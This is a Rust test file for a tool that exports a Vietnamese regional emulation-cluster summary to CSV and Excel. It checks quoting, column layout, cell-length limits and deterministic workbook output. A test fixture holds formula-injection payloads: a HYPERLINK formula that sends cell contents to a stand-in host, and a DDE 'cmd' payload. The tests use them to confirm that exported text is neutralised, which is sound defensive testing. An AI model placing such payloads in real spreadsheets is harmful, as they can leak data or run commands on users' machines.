//! Export tests on the summary tests' small cluster (three offices, two
//! criteria): every view's shape, the CSV text, and (feature `xlsx`) a
//! workbook that is a zip and the same bytes every time.

use super::csv::{BOM, cell_text, csv, field, file_name, neutralise};
use super::{Cell, ColumnKind, View, table};
use crate::domain::Title;
use crate::domain::rules::Date;
use crate::schema::evaluation_key;
use crate::summary::ClusterSummary;
use crate::summary::tests::Fixture;

/// The fixture with a cap warning in Cao Bằng (three Chiến sĩ thi đua cơ sở
/// of ten).
fn summary() -> ClusterSummary {
    let mut f = Fixture::new();
    for p in ["p2", "p3"] {
        let e = f
            .office("CBG")
            .evaluations
            .get_mut(&evaluation_key(p, 2026))
            .unwrap();
        e.proposed_title = Some(Title::ChienSiThiDuaCoSo);
        e.initiatives = 1;
    }
    f.summary(2026)
}

#[test]
fn fields_are_quoted_only_when_needed() {
    assert_eq!(field("Lạng Sơn"), "Lạng Sơn");
    assert_eq!(field("15% × 10 = 1,5"), "\"15% × 10 = 1,5\"");
    assert_eq!(
        field("Phong trào \"Vì người nghèo\""),
        "\"Phong trào \"\"Vì người nghèo\"\"\""
    );
    assert_eq!(field("hai\ndòng"), "\"hai\ndòng\"");
    assert_eq!(cell_text(&Cell::Decimal(20.0 / 3.0)), "6.67");
    assert_eq!(cell_text(&Cell::Integer(-3)), "-3");
    assert_eq!(cell_text(&Cell::Empty), "");
    assert_eq!(
        cell_text(&Cell::Date(Date::new(2026, 3, 5).unwrap())),
        "05/03/2026"
    );
}

#[test]
fn views_are_named_for_urls_and_sheets() {
    let mut sheets = Vec::new();
    for view in View::ALL {
        assert_eq!(View::parse(view.name()), Some(view));
        assert_eq!(View::parse(view.sheet()), Some(view));
        assert!(
            view.sheet().chars().count() <= 31,
            "Excel's sheet name limit"
        );
        assert!(!view.sheet_en().is_empty());
        assert!(view.slug().is_ascii(), "file names without diacritics");
        sheets.push(view.sheet());
    }
    sheets.sort();
    sheets.dedup();
    assert_eq!(sheets.len(), View::ALL.len());
    assert_eq!(View::parse("bogus"), None);
}

#[test]
fn every_row_has_a_cell_per_column_of_the_column_kind() {
    let s = summary();
    for view in View::ALL {
        let t = table(&s, view);
        assert_eq!(t.view, view);
        for (r, row) in t.rows.iter().enumerate() {
            assert_eq!(row.len(), t.columns.len(), "{} row {r}", view.name());
            for (cell, column) in row.iter().zip(&t.columns) {
                let fits = match (cell, column.kind) {
                    (Cell::Empty, _) => true,
                    (Cell::Text(_), ColumnKind::Text) => true,
                    (Cell::Integer(_), ColumnKind::Integer) => true,
                    (Cell::Decimal(_), ColumnKind::Decimal) => true,
                    (Cell::Date(_), ColumnKind::Date) => true,
                    // Labels of total rows sit in text columns only.
                    _ => false,
                };
                assert!(
                    fits,
                    "{} row {r}: {cell:?} in {:?} column {:?}",
                    view.name(),
                    column.kind,
                    column.header
                );
            }
        }
    }
}

#[test]
fn the_overview_has_an_office_per_row_and_the_cluster_total() {
    let s = summary();
    let t = table(&s, View::Overview);
    assert_eq!(t.rows.len(), s.offices.len() + 1);
    assert_eq!(t.columns[2].header, "Đơn vị");
    assert_eq!(t.rows[0][2], Cell::Text("Văn phòng Lạng Sơn".into()));
    assert_eq!(t.rows[0][3], Cell::Integer(10));
    // Cao Bằng's warning, and the cluster's.
    assert_eq!(t.rows[1][10], Cell::Integer(1));
    let total = t.rows.last().unwrap();
    assert_eq!(total[2], Cell::Text("Toàn cụm".into()));
    assert_eq!(total[3], Cell::Integer(30));
    assert_eq!(total[10], Cell::Integer(1));
    // Freshness: the newest change's date in Vietnam, days behind.
    assert!(matches!(t.rows[0][17], Cell::Date(_)));
    assert_eq!(t.rows[0][18], Cell::Integer(1));
    assert_eq!(t.rows[1][18], Cell::Integer(0));
    assert_eq!(t.rows[2][17], Cell::Empty);
}

#[test]
fn scores_follow_the_ranking_with_a_column_pair_per_criterion() {
    let s = summary();
    let t = table(&s, View::Scores);
    assert_eq!(t.rows.len(), s.ranking.len());
    let n = s.criteria.len();
    assert_eq!(t.columns.len(), 3 + 2 * n + 3 + n + 1);
    assert_eq!(t.columns[3].header, "C1 tự chấm (tối đa 25)");
    // The mid-year review's own self-scores follow the year end's.
    assert_eq!(
        t.columns[3 + 2 * n + 3].header,
        "C1 sơ kết 6 tháng: tự chấm"
    );
    assert_eq!(
        t.columns[3 + 3 * n + 3].header,
        "Sơ kết 6 tháng: tổng tự chấm"
    );
    for (row, code) in t.rows.iter().zip(&s.ranking) {
        let o = s.offices.iter().find(|o| &o.code == code).unwrap();
        let mid = o
            .mid_year_scores
            .criteria
            .iter()
            .find(|c| c.criterion_id == "C1");
        assert_eq!(row[3 + 2 * n + 3], mid.and_then(|c| c.self_score).into());
    }
    assert_eq!(t.columns[4].header, "C1 chấm chéo (bình quân)");
    assert_eq!(
        t.columns[3 + 2 * s.criteria.len()].header,
        "Tổng tự chấm (tối đa 40)"
    );
}

#[test]
fn warnings_carry_their_explanations() {
    let s = summary();
    let t = table(&s, View::Warnings);
    assert_eq!(t.rows.len(), 1);
    let row = &t.rows[0];
    assert_eq!(row[2], Cell::Text("cstdcs-cap".into()));
    match &row[6] {
        Cell::Text(vi) => assert!(vi.contains("vượt tỷ lệ 15%"), "{vi}"),
        other => panic!("{other:?}"),
    }
    match &row[8] {
        Cell::Text(en) => assert!(en.contains("over the 15% cap"), "{en}"),
        other => panic!("{other:?}"),
    }
}

#[test]
fn csv_is_the_table_with_a_bom_and_crlf() {
    let s = summary();
    for view in View::ALL {
        let text = csv(&s, view);
        let body = text.strip_prefix(BOM).expect("byte-order mark");
        let t = table(&s, view);
        assert!(body.ends_with("\r\n"));
        let lines = body.split("\r\n").filter(|l| !l.is_empty()).count();
        // No field of the fixture holds a line break.
        assert_eq!(lines, t.rows.len() + 1, "{}", view.name());
        let header: Vec<String> = t.columns.iter().map(|c| field(&c.header)).collect();
        assert!(body.starts_with(&header.join(",")), "{}", view.name());
    }
    assert_eq!(
        file_name(&s, View::Registrations),
        "tong-hop-cum-thi-dua-2026-dang-ky.csv"
    );
}

#[cfg(feature = "xlsx")]
#[test]
fn the_workbook_is_a_zip_and_the_same_bytes_every_time() {
    use super::xlsx::{created_secs, file_name, workbook};
    let s = summary();
    let a = workbook(&s).unwrap();
    let b = workbook(&s).unwrap();
    assert!(a.starts_with(b"PK\x03\x04"), "a zip file");
    assert_eq!(a, b, "no clock in the bytes");
    assert_eq!(created_secs(&s), 1_780_086_400, "the newest change");
    assert_eq!(file_name(&s), "tong-hop-cum-thi-dua-2026.xlsx");
    // Another summary (a change in the data) gives another file.
    let mut other = s.clone();
    other.offices[0].freshness.last_change_secs = Some(1_790_000_000);
    assert_ne!(workbook(&other).unwrap(), a);
}

#[test]
fn text_that_starts_like_a_formula_gets_a_quote() {
    for text in ["=1+1", "+84 912", "-2+3", "@SUM(A1)", "\tx", "\rx"] {
        assert_eq!(neutralise(text), format!("'{text}"), "{text:?}");
        assert_eq!(
            cell_text(&Cell::Text(text.into())),
            format!("'{text}"),
            "{text:?}"
        );
    }
    for text in ["Lạng Sơn", "12/QĐ-UBND", "a=b", " =1", "", "'=1"] {
        assert_eq!(neutralise(text), text, "{text:?}");
    }
    // Numbers and dates we write ourselves stay numbers.
    assert_eq!(cell_text(&Cell::Integer(-3)), "-3");
    assert_eq!(cell_text(&Cell::Decimal(-1.5)), "-1.5");
}

/// The fixture with names typed by an office that would run in Excel.
fn hostile_summary() -> ClusterSummary {
    let mut s = summary();
    s.offices[0].name = "=HYPERLINK(\"http://x.example/?\"&A1,\"Bấm vào đây\")".into();
    s.offices[1].name = "-2+3+cmd|' /C calc'!A0".into();
    s
}

#[test]
fn csv_text_cannot_become_a_formula() {
    let s = hostile_summary();
    let text = csv(&s, View::Overview);
    assert!(
        text.contains("\"'=HYPERLINK(\"\"http://x.example/?\"\"&A1,\"\"Bấm vào đây\"\")\""),
        "{text}"
    );
    assert!(text.contains(",'-2+3+cmd|' /C calc'!A0,"), "{text}");
    // No field starts like a formula: every field after a separator.
    let body = text.strip_prefix(BOM).unwrap();
    for line in body.split("\r\n") {
        for f in line.split(',') {
            let f = f.trim_start_matches('"');
            assert!(!f.starts_with(['=', '+', '@']), "{f:?} in {line:?}");
        }
    }
    // A criterion id (typed by the leading office) heads a column.
    let mut s = summary();
    s.criteria[0].id = "=C1".into();
    let text = csv(&s, View::Scores);
    assert!(text.contains(",'=C1 tự chấm (tối đa 25),"), "{text}");
}

#[test]
fn csv_keeps_overlong_text_whole() {
    let mut s = summary();
    let long = "Đ".repeat(40_000);
    s.offices[0].name = long.clone();
    let text = csv(&s, View::Overview);
    assert!(text.contains(&format!(",{long},")));
}

#[cfg(feature = "xlsx")]
mod workbook {
    use calamine::{Data, Reader, Xlsx, open_workbook_from_rs};

    use super::super::xlsx::{
        CUT_MARK, MAX_CELL_CHARS, created_secs, fit_cell, workbook, workbook_with_rows,
    };
    use super::*;

    fn open(bytes: Vec<u8>) -> Xlsx<std::io::Cursor<Vec<u8>>> {
        open_workbook_from_rs(std::io::Cursor::new(bytes)).expect("a readable workbook")
    }

    fn utf16(s: &str) -> usize {
        s.encode_utf16().count()
    }

    #[test]
    fn overlong_text_is_cut_to_excels_limit_with_a_mark() {
        assert_eq!(fit_cell("Lạng Sơn"), "Lạng Sơn");
        let exact = "a".repeat(MAX_CELL_CHARS);
        assert_eq!(fit_cell(&exact), exact);
        for long in [
            "Đ".repeat(40_000),
            "a".repeat(MAX_CELL_CHARS + 1),
            // Two UTF-16 units each: never cut in the middle of one.
            "😀".repeat(20_000),
        ] {
            let cut = fit_cell(&long);
            assert!(cut.ends_with(CUT_MARK));
            assert!(utf16(&cut) <= MAX_CELL_CHARS);
            assert!(utf16(&cut) >= MAX_CELL_CHARS - 1);
            assert!(long.starts_with(cut.strip_suffix(CUT_MARK).unwrap()));
        }
    }

    #[test]
    fn a_40000_character_name_gives_a_valid_workbook() {
        let mut s = summary();
        let long = "Đ".repeat(40_000);
        s.offices[0].name = long.clone();
        s.offices[1].registrations.people[0].full_name = "😀".repeat(20_000);
        let mut book = open(workbook(&s).expect("the workbook, whatever one name"));
        let overview = book.worksheet_range("Tổng hợp").unwrap();
        match overview.get((1, 2)) {
            Some(Data::String(name)) => {
                assert_eq!(utf16(name), MAX_CELL_CHARS);
                assert!(name.ends_with(CUT_MARK));
                assert!(long.starts_with(name.strip_suffix(CUT_MARK).unwrap()));
            }
            other => panic!("{other:?}"),
        }
        // The rest of the row is intact.
        assert_eq!(overview.get((1, 3)), Some(&Data::Float(10.0)));
        let registrations = book.worksheet_range("Đăng ký").unwrap();
        let cut = (0..registrations.height())
            .filter_map(|r| match registrations.get((r, 3)) {
                Some(Data::String(n)) if n.ends_with(CUT_MARK) => Some(n.clone()),
                _ => None,
            })
            .collect::<Vec<_>>();
        assert_eq!(cut.len(), 1 + 1, "the office's row and the person's");
    }

    #[test]
    fn text_stays_text_in_the_workbook() {
        let s = hostile_summary();
        let mut book = open(workbook(&s).unwrap());
        let overview = book.worksheet_range("Tổng hợp").unwrap();
        assert_eq!(
            overview.get((1, 2)),
            Some(&Data::String(s.offices[0].name.clone())),
            "written as a string, not a formula, and without a quote"
        );
        let formulas = book.worksheet_formula("Tổng hợp").unwrap();
        assert!(
            formulas.used_cells().all(|(_, _, f)| f.is_empty()),
            "no formula in the workbook"
        );
    }

    #[test]
    fn dates_and_times_outside_excels_calendar_do_not_fail_the_workbook() {
        let mut s = summary();
        s.offices[0].freshness.last_change_date = Some(Date::new(1800, 1, 1).unwrap());
        s.offices[0].freshness.last_change_secs = Some(i64::MAX);
        assert_eq!(created_secs(&s), 253_402_300_799);
        let mut book = open(workbook(&s).unwrap());
        let overview = book.worksheet_range("Tổng hợp").unwrap();
        assert_eq!(
            overview.get((1, 17)),
            Some(&Data::String("01/01/1800".into())),
            "as text, dd/mm/yyyy"
        );
        // No change at all, and a year Excel does not know.
        for o in &mut s.offices {
            o.freshness.last_change_secs = None;
        }
        s.year = 99_999;
        assert!(workbook(&s).is_ok());
        s.offices[0].freshness.last_change_secs = Some(i64::MIN);
        assert_eq!(created_secs(&s), -2_209_075_200);
        assert!(workbook(&s).is_ok());
    }

    #[test]
    fn rows_past_the_sheets_limit_are_counted_in_a_last_row() {
        let s = summary();
        let all = table(&s, View::Overview).rows.len();
        assert!(all > 3);
        let mut book = open(workbook_with_rows(&s, 4).unwrap());
        let overview = book.worksheet_range("Tổng hợp").unwrap();
        assert_eq!(overview.height(), 4, "the header, two rows, the note");
        match overview.get((3, 0)) {
            Some(Data::String(note)) => {
                assert!(note.contains(&format!("còn {} dòng", all - 2)), "{note}")
            }
            other => panic!("{other:?}"),
        }
    }
}

#[test]
fn the_overview_has_the_mid_year_self_score_last() {
    use crate::schema::{ReviewPeriod, ReviewRound, SelfScore, review_key};
    let mut f = Fixture::new();
    let mut round = ReviewRound::default();
    round.self_scores.insert(
        "C1".into(),
        SelfScore {
            points: 18.5,
            ..SelfScore::default()
        },
    );
    f.office("CBG")
        .reviews
        .insert(review_key(2026, ReviewPeriod::MidYear), round);
    let t = table(&f.summary(2026), View::Overview);
    let last = t.columns.len() - 1;
    assert_eq!(t.columns[last].header, "Sơ kết 6 tháng: tổng điểm tự chấm");
    assert_eq!(t.rows[1][last], Cell::Decimal(18.5), "Cao Bằng");
    assert_eq!(
        t.rows[0][last],
        Cell::Empty,
        "Lạng Sơn has not scored itself"
    );
    // The scores sheet has the mid-year score per criterion.
    let s = f.summary(2026);
    let t = table(&s, View::Scores);
    let n = s.criteria.len();
    let cbg = s.ranking.iter().position(|c| c == "CBG").unwrap();
    assert_eq!(
        t.rows[cbg][3 + 2 * n + 3],
        Cell::Decimal(18.5),
        "C1 at mid-year"
    );
    assert_eq!(
        t.rows[cbg][3 + 3 * n + 3],
        Cell::Decimal(18.5),
        "mid-year total"
    );
}
